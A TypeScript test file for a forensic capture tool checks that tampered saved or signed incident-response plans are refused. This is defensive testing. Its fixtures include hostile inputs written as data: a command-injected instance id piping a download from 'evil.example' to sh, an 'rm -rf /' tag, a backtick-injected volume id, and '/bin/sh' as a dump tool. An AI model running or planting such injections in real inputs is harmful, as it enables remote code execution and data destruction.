/** A saved plan is input: apply re-parses its case and checks every step before any call (issue 19). */
import { mkdtempSync, readFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { BadInputError, type InputProblem } from '../../src/core/errors.js';
import type { CapturePlan } from '../../src/core/types.js';
import { parseCase, type CaseInput } from '../../src/engine/case.js';
import { buildPlan, planDigest } from '../../src/engine/plan.js';
import { builtinProviders } from '../../src/engine/registry.js';
import { assertSignedPlan, assertUsablePlan, signPlan } from '../../src/engine/saved-plan.js';
import { generateSigningKey, localSigner } from '../../src/evidence/signing.js';
import type { Ec2Facts, InstanceFacts } from '../../providers/ec2/facts.js';
import type { DumpFacts } from '../../providers/dump/facts.js';
import { GOLDEN_CASES } from './fixtures/run-golden/cases.js';

const I1 = 'i-0123456789abcdef0';
const I2 = 'i-0fedcba9876543210';

function instance(id: string): InstanceFacts {
  return {
    instanceId: id,
    state: 'running',
    spot: false,
    rootDeviceType: 'ebs',
    vpcId: 'vpc-0a1b2c3d4e5f60718',
    availabilityZone: 'us-east-1a',
    tags: { Name: 'web; rm -rf / (a tag is whatever the owner wrote)' },
    enis: [
      {
        id: `eni-${id.slice(2)}`,
        vpcId: 'vpc-0a1b2c3d4e5f60718',
        subnetId: 'subnet-0a1b2c3d4e5f60718',
        groups: ['sg-0a1b2c3d4e5f60718'],
        requesterManaged: false,
        deviceIndex: 0,
      },
    ],
    volumes: [
      { id: `vol-${id.slice(2)}`, device: '/dev/xvda', deleteOnTermination: true, sizeGiB: 8, encrypted: false },
    ],
    autoScaling: { group: 'web-asg', lifecycleState: 'InService', targetGroupArns: [] },
    registrations: [
      {
        targetGroupArn: 'arn:aws:elasticloadbalancing:us-east-1:123456789012:targetgroup/web/50dc6c495c0c9188',
        port: 80,
      },
    ],
  };
}

/** A plan as `evidence plan --out` writes it: parsed case, facts in memory, then JSON. */
function savedPlan(input: CaseInput = {}): CapturePlan {
  const kase = parseCase(
    {
      incident: 'IR-SAVED-1',
      forensicCidrs: ['203.0.113.7/32'],
      forensicPorts: '22,8000-8100',
      store: 's3://holdfast-saved-plans/cases',
      region: 'us-east-1',
      targets: {
        ec2: { instances: [I1, I2], lockSnapshotsDays: 7, hashSnapshots: true },
        dump: { urls: ['postgres://forensic@db.internal:5432/orders'], passwordEnv: 'ORDERS_PW' },
      },
      ...input,
    },
    builtinProviders,
  );
  const ec2: Ec2Facts = {
    region: 'us-east-1',
    params: kase.targets.ec2 as Ec2Facts['params'],
    instances: [instance(I1), instance(I2)],
  };
  const dumpParams = kase.targets.dump as DumpFacts['params'] | undefined;
  const facts = new Map<string, unknown>([['ec2', ec2]]);
  if (dumpParams)
    facts.set('dump', {
      params: dumpParams,
      dumps: dumpParams.targets.map((t) => ({
        ...t,
        tool: 'pg_dump',
        toolVersion: 'pg_dump (PostgreSQL) 17.2',
        serverVersion: '17.2',
      })),
    } satisfies DumpFacts);
  return JSON.parse(JSON.stringify(buildPlan(kase, facts, builtinProviders))) as CapturePlan;
}

/** Edit a saved plan the way an attacker with the library would: change it, recompute the digest. */
function edited(plan: CapturePlan, change: (p: CapturePlan) => void): CapturePlan {
  const copy = JSON.parse(JSON.stringify(plan)) as CapturePlan;
  change(copy);
  return { ...copy, digest: planDigest(copy) };
}

function problemsOf(plan: unknown): InputProblem[] {
  try {
    assertUsablePlan(plan, builtinProviders);
  } catch (error) {
    expect(error).toBeInstanceOf(BadInputError);
    return (error as BadInputError).problems;
  }
  throw new Error('the plan was accepted');
}

const stepIndex = (plan: CapturePlan, id: string) => plan.steps.findIndex((s) => s.id === id);

describe('a saved plan is checked like fresh input', () => {
  it('plans as the planner writes them are accepted: s3 and fs stores, ports, several providers, low severity, no containment', () => {
    for (const input of [
      {},
      { store: '/tmp/evidence', forensicPorts: undefined },
      { severity: 'low' },
      { severity: 'low', approveContainment: true },
      { contain: false, targets: { ec2: { instances: [I1, I2] } } },
      { targets: { ec2: { instanceTags: ['team=web'], copyToAccount: '210987654321', kmsKey: 'alias/forensic' } } },
    ] as CaseInput[]) {
      const plan = savedPlan(input);
      expect(plan.steps.length).toBeGreaterThan(10);
      expect(assertUsablePlan(plan, builtinProviders)).toEqual(plan);
    }
  });

  it('the golden cases (every provider, high and low severity, all providers at once) are accepted as saved', () => {
    for (const c of GOLDEN_CASES) {
      const plan = JSON.parse(JSON.stringify(buildPlan(c.kase, new Map(Object.entries(c.facts)), builtinProviders)));
      expect(() => assertUsablePlan(plan, builtinProviders), c.name).not.toThrow();
    }
  });

  it('the attack from the issue: 0.0.0.0/0 admitted and a shell-laden instance id, digest recomputed', () => {
    const plan = savedPlan();
    const evil = 'i-0123456789abcdef0; curl evil.example | sh';
    const isolate = stepIndex(plan, `ec2:isolate/${I1}`);
    const wide = edited(plan, (p) => {
      p.case.forensicCidrs = ['0.0.0.0/0'];
    });
    expect(problemsOf(wide)).toEqual([
      expect.objectContaining({
        field: 'plan.case.forensicCidrs[0]',
        message: expect.stringContaining('wider than /16'),
      }),
    ]);
    const badId = edited(plan, (p) => {
      p.steps[isolate]!.inputs.instanceId = evil;
    });
    expect(problemsOf(badId)).toEqual([
      {
        field: `plan.steps[${isolate}].inputs.instanceId`,
        message: `step "ec2:isolate/${I1}": is ${JSON.stringify(evil)}, but the step's id says "${I1}"`,
      },
    ]);
    // The id, target and inputs all rewritten consistently: the instance is not the case's.
    const renamed = edited(plan, (p) => {
      const s = p.steps[isolate]!;
      Object.assign(s, { id: `ec2:isolate/${evil}`, target: `ec2:${evil}`, inputs: { ...s.inputs, instanceId: evil } });
    });
    expect(problemsOf(renamed).map((p) => p.field)).toEqual(expect.arrayContaining([`plan.steps[${isolate}].id`]));
    // Both at once, the case edited too: the case parser refuses both before any step is read.
    const both = edited(plan, (p) => {
      p.case.forensicCidrs = ['0.0.0.0/0'];
      (p.case.targets.ec2 as { instances: string[] }).instances.push(evil);
    });
    expect(problemsOf(both).map((p) => p.field)).toEqual([
      'plan.case.forensicCidrs[0]',
      'plan.case.targets.ec2.instances[2]',
    ]);
  });

  it("an instance the case does not name, another lock, a dump tool of the attacker's choosing: each named", () => {
    const plan = savedPlan();
    const other = 'i-0aaaaaaaaaaaaaaaa';
    const snap = stepIndex(plan, `ec2:snapshot/${I1}`);
    const dump = plan.steps.findIndex((s) => s.provider === 'dump');
    const cases: [(p: CapturePlan) => void, string, RegExp][] = [
      [
        (p) => {
          const s = p.steps[snap]!;
          Object.assign(s, {
            id: `ec2:snapshot/${other}`,
            target: `ec2:${other}`,
            inputs: { ...s.inputs, instanceId: other },
          });
        },
        `plan.steps[${snap}].inputs.instanceId`,
        /is not among targets\.ec2\.instances in the case/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.lockDays = null),
        `plan.steps[${snap}].inputs.lockDays`,
        /targets\.ec2\.lockSnapshotsDays in the case says 7/,
      ],
      [
        (p) => (p.steps[snap]!.inputs.volumes = ['vol-x`id`']),
        `plan.steps[${snap}].inputs.volumes[0]`,
        /is not an EBS volume id/,
      ],
      [(p) => (p.steps[snap]!.inputs.extra = 1), `plan.steps[${snap}].inputs.extra`, /unknown field/],
      [(p) => (p.steps[snap]!.action = 'terminate'), `plan.steps[${snap}].action`, /is not an EC2 action/],
      [
        (p) => (p.steps[dump]!.inputs.tool = '/bin/sh'),
        `plan.steps[${dump}].inputs.tool`,
        /not one of the postgres dump tools \(pg_dump\)/,
      ],
      [
        (p) => (p.steps[dump]!.inputs.tool = '/tmp/attacker/pg_dump'),
        `plan.steps[${dump}].inputs.tool`,
        /on the PATH or in a system directory/,
      ],
      [
        (p) => (p.steps[dump]!.inputs.host = 'attacker.example'),
        `plan.steps[${dump}].inputs.host`,
        /targets\.dump in the case/,
      ],
    ];
    for (const [change, field, message] of cases) {
      const problems = problemsOf(edited(plan, change));
      expect(problems).toContainEqual({ field, message: expect.stringMatching(message) });
    }
  });

  it('what the planner guarantees is checked again: evidence before change, approval held, no containment under contain: false', () => {
    const plan = savedPlan();
    const isolate = stepIndex(plan, `ec2:isolate/${I1}`);
    // Containment no longer waits for the snapshot: evidence would not come first.
    const early = edited(plan, (p) => {
      p.steps[isolate]!.dependsOn = p.steps[isolate]!.dependsOn.filter((d) => !d.startsWith('ec2:snapshot/'));
    });
    expect(problemsOf(early)).toContainEqual({
      field: `plan.steps[${isolate}].dependsOn`,
      message: `step "ec2:isolate/${I1}": lacks ec2:snapshot/${I1} (an earlier phase of the same target)`,
    });
    const low = savedPlan({ severity: 'low' });
    const released = edited(low, (p) => {
      for (const s of p.steps) delete s.awaitsApproval;
      p.waiting = [];
    });
    const fields = problemsOf(released).map((p) => p.field);
    expect(fields).toContain('plan.waiting');
    expect(fields).toContain(`plan.steps[${isolate}].awaitsApproval`);
    const noContain = savedPlan({ contain: false, targets: { ec2: { instances: [I1, I2] } } });
    const added = edited(noContain, (p) => {
      p.steps.push({ ...plan.steps[isolate]!, dependsOn: [] });
    });
    expect(problemsOf(added)).toContainEqual(
      expect.objectContaining({ field: `plan.steps[${noContain.steps.length}].phase` }),
    );
  });

  it('the CLI names the plan file; an unknown case field and an edited case are refused', () => {
    const plan = savedPlan();
    const extra = edited(plan, (p) => Object.assign(p.case, { shell: 'sh' }));
    expect(() => assertUsablePlan(extra, builtinProviders, 'plan p.json')).toThrow(
      expect.objectContaining({ problems: [expect.objectContaining({ field: 'plan p.json: case.shell' })] }),
    );
    const store = edited(plan, (p) => {
      if (p.case.store.kind === 's3') p.case.store.bucket = 'Not_A_Bucket';
    });
    expect(problemsOf(store).map((p) => p.field)).toEqual(['plan.case.store']);
  });
});

describe('a signed plan: apply --require-signed runs only the reviewed plan', () => {
  const keys = mkdtempSync(join(tmpdir(), 'hf-plan-keys-'));
  const reviewer = generateSigningKey(join(keys, 'reviewer'));
  const attacker = generateSigningKey(join(keys, 'attacker'));
  const reviewerPem = readFileSync(reviewer.publicKey, 'utf8');

  it('signing adds a signature over the digest and leaves the digest as it was', async () => {
    const plan = savedPlan();
    const signed = JSON.parse(JSON.stringify(await signPlan(plan, localSigner(reviewer.privateKey)))) as CapturePlan;
    expect(signed.digest).toBe(plan.digest);
    expect(planDigest(signed)).toBe(plan.digest);
    expect(signed.signature).toMatchObject({ kind: 'plan', incident: plan.incident, recordSha256: plan.digest });
    expect(assertUsablePlan(signed, builtinProviders)).toEqual(signed);
    expect(assertSignedPlan(signed, { publicKeyPem: reviewerPem })).toMatch(
      /ed25519 signature by local:\w+ .* is valid/,
    );
  });

  it('unsigned, edited after signing, re-signed by another key, or a broken signature: refused, naming the signature', async () => {
    const plan = savedPlan();
    const signed = await signPlan(plan, localSigner(reviewer.privateKey));
    const refusal = (p: CapturePlan, pin = true) => {
      try {
        assertSignedPlan(p, pin ? { publicKeyPem: reviewerPem } : {});
      } catch (error) {
        expect(error).toBeInstanceOf(BadInputError);
        const [problem] = (error as BadInputError).problems;
        expect(problem?.field).toBe('plan.signature');
        return problem!.message;
      }
      throw new Error('accepted');
    };
    expect(refusal(plan)).toMatch(/not signed/);
    // Edited and its digest recomputed, the reviewer's signature kept: the signature is for another digest.
    const edited = { ...signed, limitations: [] };
    expect(refusal({ ...edited, digest: planDigest(edited) })).toMatch(/different plan digest/);
    // Re-signed by the attacker: valid, but not the pinned reviewer's key.
    const resigned = await signPlan({ ...edited, digest: planDigest(edited) }, localSigner(attacker.privateKey));
    expect(refusal(resigned)).toMatch(/key other than the pinned/);
    expect(assertSignedPlan(resigned)).toMatch(/is valid/);
    const flipped = { ...signed, signature: { ...signed.signature, signature: Buffer.alloc(64).toString('base64') } };
    expect(refusal(flipped, false)).toMatch(/does not verify/);
    expect(refusal({ ...signed, signature: { kind: 'plan' } })).toMatch(/is not a signature record/);
  });
});
